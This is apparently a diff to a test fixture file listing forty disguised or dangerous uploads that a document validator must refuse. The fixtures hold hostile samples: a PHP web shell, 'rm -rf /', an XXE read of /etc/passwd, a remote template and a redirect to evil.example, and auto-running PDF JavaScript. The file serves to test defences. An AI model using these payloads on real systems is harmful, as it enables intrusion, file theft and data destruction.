@@ -4,39 +4,83 @@ import { docx, external, odt, relationships } from './office.ts'
 import { pdf } from './pdf.ts'
 import { zip } from './zip.ts'
 
-type BadFile = { readonly name: string; readonly content: Buffer; readonly mediaType?: string; /** What its sender must be told. */ readonly told: string }
+type BadFile = {
+  readonly name: string
+  readonly content: Buffer
+  readonly mediaType?: string /** What its sender must be told. */
+  readonly told: string
+}
 
 const bytes = (text: string) => Buffer.from(text, 'latin1')
 const HTML = bytes('<!DOCTYPE html><html><script>alert(1)</script></html>')
-const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64')
+const PNG = Buffer.from(
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
+  'base64',
+)
 const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')
-const JPEG = Buffer.concat([Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), Buffer.alloc(64), Buffer.from('ffd9', 'hex')])
+const JPEG = Buffer.concat([
+  Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
+  Buffer.alloc(64),
+  Buffer.from('ffd9', 'hex'),
+])
 const EXE = Buffer.concat([bytes('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff'), Buffer.alloc(200)])
 const LOCKED = compound({ EncryptedPackage: Buffer.alloc(600), EncryptionInfo: Buffer.alloc(600) })
 const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
 const KEY = '(01234567890123456789012345678901)'
 /** Nothing opens it but a password that nobody has. */
-const ENCRYPTED = pdf({ objects: [`<< /Filter /Standard /V 1 /R 2 /O ${KEY} /U ${KEY} /P -4 >>`], trailer: '/Encrypt 6 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]' })
+const ENCRYPTED = pdf({
+  objects: [`<< /Filter /Standard /V 1 /R 2 /O ${KEY} /U ${KEY} /P -4 >>`],
+  trailer:
+    '/Encrypt 6 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]',
+})
 const parts = (name: string, content: string) => docx({ parts: [{ name, content }] })
 
 /** Forty files that are not what they say, or more than they say. */
 export const BAD_FILES: readonly BadFile[] = [
   { name: 'program.pdf', content: EXE, told: notOfType('pdf', 'exe') },
-  { name: 'unix-program.pdf', content: Buffer.concat([bytes('\x7fELF\x02\x01\x01'), Buffer.alloc(200)]), told: notOfType('pdf', 'elf') },
+  {
+    name: 'unix-program.pdf',
+    content: Buffer.concat([bytes('\x7fELF\x02\x01\x01'), Buffer.alloc(200)]),
+    told: notOfType('pdf', 'elf'),
+  },
   { name: 'page.pdf', content: HTML, told: notOfType('pdf') },
-  { name: 'drawing.pdf', content: bytes('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), told: notOfType('pdf') },
-  { name: 'script.pdf', content: bytes('window.location = "https://evil.example"'), told: notOfType('pdf') },
-  { name: 'server-script.pdf', content: bytes('<?php system($_GET["c"]); ?>'), told: notOfType('pdf') },
+  {
+    name: 'drawing.pdf',
+    content: bytes('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
+    told: notOfType('pdf'),
+  },
+  {
+    name: 'script.pdf',
+    content: bytes('window.location = "https://evil.example"'),
+    told: notOfType('pdf'),
+  },
+  {
+    name: 'server-script.pdf',
+    content: bytes('<?php system($_GET["c"]); ?>'),
+    told: notOfType('pdf'),
+  },
   { name: 'shell-script.pdf', content: bytes('#!/bin/sh\nrm -rf /\n'), told: notOfType('pdf') },
   { name: 'picture.pdf', content: PNG, told: notOfType('pdf', 'png') },
   { name: 'photograph.pdf', content: JPEG, told: notOfType('pdf', 'jpg') },
   { name: 'animation.pdf', content: GIF, told: notOfType('pdf', 'gif') },
-  { name: 'archive.pdf', content: zip([{ name: 'a.txt', content: 'a' }]), told: notOfType('pdf', 'zip') },
+  {
+    name: 'archive.pdf',
+    content: zip([{ name: 'a.txt', content: 'a' }]),
+    told: notOfType('pdf', 'zip'),
+  },
   { name: 'page-in-front.pdf', content: Buffer.concat([HTML, pdf()]), told: notOfType('pdf') },
-  { name: 'page-behind.pdf', content: Buffer.concat([pdf(), Buffer.alloc(2000, '<html>')]), told: REFUSED.damaged },
+  {
+    name: 'page-behind.pdf',
+    content: Buffer.concat([pdf(), Buffer.alloc(2000, '<html>')]),
+    told: REFUSED.damaged,
+  },
   { name: 'pdf.docx', content: pdf(), told: notOfType('docx', 'pdf') },
   { name: 'page.docx', content: HTML, told: notOfType('docx') },
-  { name: 'archive.docx', content: zip([{ name: 'a.txt', content: 'a' }]), told: notOfType('docx') },
+  {
+    name: 'archive.docx',
+    content: zip([{ name: 'a.txt', content: 'a' }]),
+    told: notOfType('docx'),
+  },
   { name: 'page.txt', content: HTML, told: notOfType('txt') },
   { name: 'program.txt', content: EXE, told: REFUSED.unreadableText },
   { name: 'page.rtf', content: HTML, told: notOfType('rtf') },
@@ -51,14 +95,36 @@ export const BAD_FILES: readonly BadFile[] = [
   { name: 'blank.txt', content: bytes(' \r\n\t '), told: REFUSED.empty },
   { name: 'truncated.pdf', content: pdf().subarray(0, -200), told: REFUSED.damaged },
   { name: 'truncated.docx', content: docx().subarray(0, -30), told: REFUSED.damaged },
-  { name: 'truncated.doc', content: compound({ WordDocument: wordStream() }).subarray(0, 2600), told: REFUSED.damaged },
+  {
+    name: 'truncated.doc',
+    content: compound({ WordDocument: wordStream() }).subarray(0, 2600),
+    told: REFUSED.damaged,
+  },
   { name: 'truncated.rtf', content: bytes('{\\rtf1\\ansi {Forklift'), told: REFUSED.damaged },
   { name: 'encrypted.pdf', content: ENCRYPTED, told: REFUSED.protected },
   { name: 'encrypted.docx', content: LOCKED, told: REFUSED.protected },
-  { name: 'encrypted.doc', content: compound({ WordDocument: wordStream({ flags: 0x0100 }) }), told: REFUSED.protected },
+  {
+    name: 'encrypted.doc',
+    content: compound({ WordDocument: wordStream({ flags: 0x0100 }) }),
+    told: REFUSED.protected,
+  },
   { name: 'macros.docx', content: parts('word/vbaProject.bin', 'x'), told: REFUSED.macros },
   { name: 'runs.pdf', content: pdf({ catalog: `/OpenAction ${SCRIPT}` }), told: REFUSED.pdfScript },
-  { name: 'fetches.docx', content: parts('word/_rels/document.xml.rels', relationships(external('attachedTemplate', 'http://evil.example/t.dotm'))), told: REFUSED.external },
-  { name: 'entities.docx', content: parts('word/document.xml', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'), told: REFUSED.unsafeMarkup },
+  {
+    name: 'fetches.docx',
+    content: parts(
+      'word/_rels/document.xml.rels',
+      relationships(external('attachedTemplate', 'http://evil.example/t.dotm')),
+    ),
+    told: REFUSED.external,
+  },
+  {
+    name: 'entities.docx',
+    content: parts(
+      'word/document.xml',
+      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
+    ),
+    told: REFUSED.unsafeMarkup,
+  },
   { name: 'listens.odt', content: odt({ inside: '<event-listener/>' }), told: REFUSED.macros },
 ]
